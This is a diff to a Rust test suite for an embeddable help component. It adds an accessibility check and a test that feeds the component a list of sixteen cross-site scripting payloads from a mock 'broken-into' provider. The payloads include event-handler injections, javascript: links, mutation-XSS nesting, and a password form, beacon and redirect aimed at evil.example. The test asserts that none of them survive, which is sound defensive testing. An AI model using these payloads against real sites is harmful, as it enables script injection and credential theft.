@@ -3,6 +3,7 @@
 
 use serde_json::json;
 
+use crate::gallery;
 use crate::journey::Portal;
 use crate::support::browser::{Browser, Options, Page};
 use crate::support::{Engine, TestApp};
@@ -278,6 +279,46 @@ async fn another_script_than_the_one_that_the_portal_names_is_not_run() {
     }
 }
 
+/// What a portal shows, by day and by night, in both languages: its own pages, and each of the component's.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_portals_help_is_for_everyone() {
+    for locale in ["ja", "en"] {
+        let (_app, portal, browser, _page) = component_page(locale, Options::PHONE).await;
+        let page = browser.page().await;
+        page.before_each_page(gallery::axe()).await;
+        let look = async |what: &str| {
+            for scheme in ["light", "dark"] {
+                gallery::prefers(&page, scheme, "none").await;
+                let rules = if scheme == "light" { gallery::RULES } else { gallery::RULES_OF_COLOUR };
+                let found = gallery::axe_run(&page, rules).await;
+                assert!(found.is_empty(), "{what} in {locale}, {scheme}: {found:#?}");
+            }
+        };
+        for path in ["", "/faq", "/guide"] {
+            page.goto(&format!("{}{path}", portal.url)).await;
+            page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true").await;
+            look(path).await;
+        }
+        page.goto(&format!("{}/component", portal.url)).await;
+        let component = Component { page: &page };
+        component.click("root.getElementById('menu-button')").await;
+        look("the menu").await;
+        for (view, shown) in [
+            ("faq", "root.getElementById('query')"),
+            ("faq/passkey-qr-not-read", "root.querySelector('table')"),
+            ("guide", "root.querySelector('.body img')"),
+        ] {
+            page.evaluate(&format!("document.querySelector('sekisho-help').show('{view}')")).await;
+            component.look(&format!("Boolean({shown})")).await;
+            look(view).await;
+        }
+        page.evaluate("document.querySelector('sekisho-help').show('faq')").await;
+        component.search(if locale == "ja" { "スマホ" } else { "phone" }).await;
+        component.look("Boolean(root.querySelector('mark'))").await;
+        look("the search").await;
+    }
+}
+
 /// The provider's own pages, for whoever comes without a portal or without scripts.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_providers_pages_are_searched_and_linked_without_scripts() {
@@ -336,4 +377,82 @@ async fn printed_the_questions_have_their_answers_and_nothing_to_press() {
     for (part, printed) in [("root.querySelector('.body')", true), ("root.getElementById('close')", false)] {
         assert_eq!(component.look(&format!("[{part}.checkVisibility()]")).await, json!([printed]), "{part}");
     }
+}
+
+/// What a provider that was broken into might answer. The page has no policy of its own, so that whatever got in would run.
+const HOSTILE: [&str; 16] = [
+    "<script>window.ran = 1</script>",
+    "<img src=x onerror='window.ran = 1'>",
+    "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
+    "<svg><style><img src=x onerror='window.ran = 1'></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
+    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
+    "<a href='javascript:window.ran = 1'>press</a>",
+    "<a href='java\tscript:window.ran = 1'>press</a>",
+    "<a href='data:text/html,<script>opener.ran = 1</script>'>press</a>",
+    "<p style='position:fixed;inset:0' onclick='window.ran = 1'>over everything</p>",
+    "<details open ontoggle='window.ran = 1'>x</details>",
+    "<form action='https://evil.example/'><button>log in</button><input name=password></form>",
+    "<template><img src=x onerror='window.ran = 1'></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
+    "<img src='https://evil.example/beacon.png' alt='beacon'>",
+    "<base href='https://evil.example/'><link rel=stylesheet href=/x><meta http-equiv=refresh content='0;url=https://evil.example/'>",
+];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_in_an_answer_gets_past_the_component() {
+    let words = TestApp::start(Engine::Sqlite).await;
+    let words: serde_json::Value =
+        reqwest::get(words.at("/help/v1/component?locale=ja")).await.unwrap().json().await.unwrap();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://localhost:{}", listener.local_addr().unwrap().port());
+    let html = format!("<p>kept words</p>{}", HOSTILE.concat());
+    let named = json!({ "id": "x", "title": HOSTILE.concat(), "language": "ja" });
+    let question = json!({ "id": "x", "title": HOSTILE.concat(), "language": "ja", "answer": { "html": html }, "related": [named] });
+    // One by one, so that none hides in another.
+    let hit = |html: &str| json!({ "id": "x", "title_html": html, "language": "ja", "snippet": { "html": html } });
+    let hits: Vec<_> = HOSTILE.into_iter().chain(["<p>kept words</p>"]).map(hit).collect();
+    let found = json!({ "guide": [], "hits": hits });
+    const SCRIPT: &str = include_str!("../../templates/help_component/sekisho-help-1.0.0.js");
+    const PAGE: &str =
+        "<!doctype html><html lang=ja><title>portal</title><script defer src=/sekisho-help.js></script><sekisho-help>";
+    let answer = |value: serde_json::Value| axum::routing::get(async move || axum::Json(value));
+    let router = axum::Router::new()
+        .route("/", axum::routing::get(async || axum::response::Html(PAGE)))
+        .route("/sekisho-help.js", axum::routing::get(async || ([("content-type", "text/javascript")], SCRIPT)))
+        .route("/help/v1/component", answer(words))
+        .route("/help/v1/questions/x", answer(question))
+        .route("/help/v1/search", answer(found))
+        .route("/help/v1/categories", answer(json!({ "categories": [named] })));
+    tokio::spawn(async move { axum::serve(listener, router).await });
+
+    let browser = Browser::launch(Options::DESKTOP).await;
+    let page = browser.page().await;
+    page.goto(&url).await;
+    let component = Component { page: &page };
+    component.look("root.getElementById('menu-button')").await;
+    page.evaluate("document.querySelector('sekisho-help').show('faq/x')").await;
+    let harmless = async || {
+        let left = component
+            .look(
+                "[[...root.getElementById('content').querySelectorAll('*')].filter(e =>
+                    !/^(a|blockquote|br|button|code|div|em|h3|h4|h5|h6|hr|img|input|label|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul|form)$/.test(e.localName)
+                    || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')
+                    || (e.href && !/^(https?|mailto):/.test(e.href)) || (e.src && new URL(e.src).origin !== location.origin)
+                    || e.name === 'password').map(e => e.outerHTML)]",
+            )
+            .await;
+        assert_eq!(left, json!([[]]));
+        assert_eq!(page.evaluate("window.ran ?? null").await, json!(null));
+        assert_eq!(page.url().await.trim_end_matches('/'), url);
+    };
+    component.says("kept words").await;
+    harmless().await;
+    let links = "[...root.querySelectorAll('.body a')].forEach(a => a.click()) ?? true";
+    component.look(links).await;
+    harmless().await;
+    page.evaluate("document.querySelector('sekisho-help').show('faq')").await;
+    component.search("x").await;
+    component.says("kept words").await;
+    harmless().await;
 }
